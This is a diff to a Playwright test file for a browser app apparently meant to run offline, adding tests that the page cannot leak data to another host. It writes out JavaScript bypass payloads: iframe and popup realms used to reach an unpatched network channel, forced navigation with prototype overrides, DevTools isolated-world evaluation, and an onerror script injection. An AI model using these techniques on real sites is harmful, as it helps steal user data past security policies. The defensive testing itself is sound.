@@ -13,8 +13,9 @@ import pytest
 from playwright.sync_api import Browser, Page, Worker
 
 from offcut_testing import chromium
-from offcut_testing.driver import is_kept, is_ready, remove_background, visit
+from offcut_testing.driver import developer_tools, is_kept, is_ready, remove_background, visit
 from offcut_testing.host import Host
+from tests.conftest import ROOT
 from tests.browser.offline.net_log import Sent, requests
 
 _FETCH = "fetch(URL, { method: 'POST', body: 'picture', mode: 'no-cors' })"
@@ -58,6 +59,49 @@ _CHANNEL = """(async (server) => {
 })(URL.split('/')[2])"""
 _EVENTS = "new Promise((done, failed) => { const s = new EventSource(URL); s.onerror = failed; })"
 _IMPORT = "import(URL)"
+_REALMS = {
+    "blank frame": "const f = document.createElement('iframe'); document.body.append(f);"
+    "const realm = f.contentWindow;",
+    "frame by its index": "const f = document.createElement('IFRAME'); document.body.append(f);"
+    "const realm = globalThis[0];",
+    "frame of a namespace": "const f = document.createElementNS('http://www.w3.org/1999/xhtml',"
+    "'x:iframe'); document.body.append(f); const realm = f.contentWindow;",
+    "frame by srcdoc": "const f = document.createElement('iframe'); f.srcdoc = '<p>';"
+    "document.body.append(f); await new Promise((done) => (f.onload = done));"
+    "const realm = f.contentWindow;",
+    "markup": "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');"
+    "const realm = globalThis[0];",
+    "parsed document": "const d = new DOMParser().parseFromString('<iframe>', 'text/html');"
+    "document.body.append(d.querySelector('iframe')); const realm = globalThis[0];",
+    "written document": "document.write('<iframe></iframe>'); const realm = globalThis[0];",
+    "document of a frame": "const d = document.implementation.createDocument("
+    "'http://www.w3.org/1999/xhtml', 'iframe'); document.body.append(d.documentElement);"
+    "const realm = globalThis[0];",
+    "element of its own": "class F extends HTMLIFrameElement {}"
+    "customElements.define('f-f', F, { extends: 'iframe' }); document.body.append(new F());"
+    "const realm = globalThis[0];",
+    "object": "const f = document.createElement('object'); f.data = 'about:blank';"
+    "document.body.append(f); await new Promise((done) => setTimeout(done, 300));"
+    "const realm = f.contentWindow;",
+    "window": "const realm = window.open('about:blank');",
+    "document's window": "const realm = document.open('about:blank', 'x', 'popup');",
+}
+"""Ways to the globals of another window, which have what was taken from the page's."""
+_GOING = {
+    "location": "location.href = URL",
+    "top": "top.location.replace(URL)",
+    "link": "const a = document.createElement('a'); a.href = URL; a.click()",
+    "link to save": "const a = document.createElement('a'); a.href = URL; a.download = 'x';"
+    "a.click()",
+    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
+    "m.content = `0;url=${URL}`; document.head.append(m)",
+    "another's trick": "NavigateEvent.prototype.preventDefault = () => {};"
+    "Event.prototype.preventDefault = () => {}; String.prototype.startsWith = () => true;"
+    "location.href = URL",
+    "window": "globalThis.open?.(URL)",
+}
+"""Ways to leave for another site with something in the address."""
+_NEW_WINDOW = "const a = document.createElement('a'); a.href = URL; a.target = '_blank'; a.click()"
 
 PAGE_LEAKS = {
     "fetch": _FETCH,
@@ -221,6 +265,60 @@ def test_policy_stops_the_page(guarded: Page, elsewhere: _Elsewhere, leak: str) 
     assert elsewhere.heard == []
 
 
+@pytest.mark.parametrize("way", _REALMS)
+def test_no_other_realm_gives_the_page_a_channel(
+    guarded: Page, elsewhere: _Elsewhere, way: str
+) -> None:
+    channel = _CHANNEL.replace("new RTC", "new realm.RTC")
+    leak = f"(async () => {{ {_REALMS[way]} await {channel}; }})()"
+    assert _attempt(guarded, leak, elsewhere.url) == "stopped"
+    assert elsewhere.heard == []
+
+
+def test_policy_stops_frames_that_nothing_else_stops(guarded: Page, elsewhere: _Elsewhere) -> None:
+    """In a world of its own, which has the browser's functions as they were."""
+    tools = developer_tools(guarded)
+    frame = tools.send("Page.getFrameTree")["frameTree"]["frame"]["id"]
+    world = tools.send("Page.createIsolatedWorld", {"frameId": frame})["executionContextId"]
+    script = _FRAME.replace("URL", repr(elsewhere.url))
+    answer = tools.send(
+        "Runtime.evaluate",
+        {
+            "expression": f"{script}.then(() => 'sent', () => 'stopped')",
+            "contextId": world,
+            "awaitPromise": True,
+        },
+    )
+    assert answer["result"]["value"] == "stopped"
+    assert elsewhere.heard == []
+
+
+@pytest.mark.parametrize("way", _GOING)
+def test_the_page_does_not_go_elsewhere(
+    browser: Browser, site: str, elsewhere: _Elsewhere, way: str
+) -> None:
+    with browser.new_context(service_workers="block") as context:
+        page = context.new_page()
+        page.goto(site)
+        page.evaluate(f"() => {{ {_GOING[way].replace('URL', repr(elsewhere.url))} }}")
+        page.wait_for_timeout(1000)
+        assert page.url == site
+    assert elsewhere.heard == []
+
+
+def test_what_stays_open_is_what_the_documents_say(
+    browser: Browser, site: str, elsewhere: _Elsewhere
+) -> None:
+    with browser.new_context(service_workers="block") as context:
+        page = context.new_page()
+        page.goto(site)
+        with context.expect_page() as opened:
+            page.evaluate(f"() => {{ {_NEW_WINDOW.replace('URL', repr(elsewhere.url))} }}")
+        opened.value.wait_for_load_state()
+    assert "GET /leak" in elsewhere.heard
+    assert "a link that opens a new window" in " ".join((ROOT / "SECURITY.md").read_text().split())
+
+
 def test_policy_stops_the_workers(guarded: Page, elsewhere: _Elsewhere) -> None:
     workers = [worker for worker in guarded.workers if "ort-wasm" not in worker.url]
     assert len(workers) == 2
@@ -234,9 +332,13 @@ def test_script_planted_in_the_page_does_not_run(guarded: Page) -> None:
     ran = guarded.evaluate(
         """async () => {
           const script = document.createElement('script');
-          script.textContent = 'globalThis.planted = true';
           const image = document.createElement('template');
-          image.innerHTML = '<img src="x" onerror="globalThis.planted = true">';
+          try {
+            image.innerHTML = '<img src="x" onerror="globalThis.planted = true">';
+          } catch {} // Trusted Types refuse it
+          try {
+            script.textContent = 'globalThis.planted = true';
+          } catch {}
           document.body.append(script, image.content);
           await new Promise((resolve) => setTimeout(resolve, 500));
           return globalThis.planted === true;
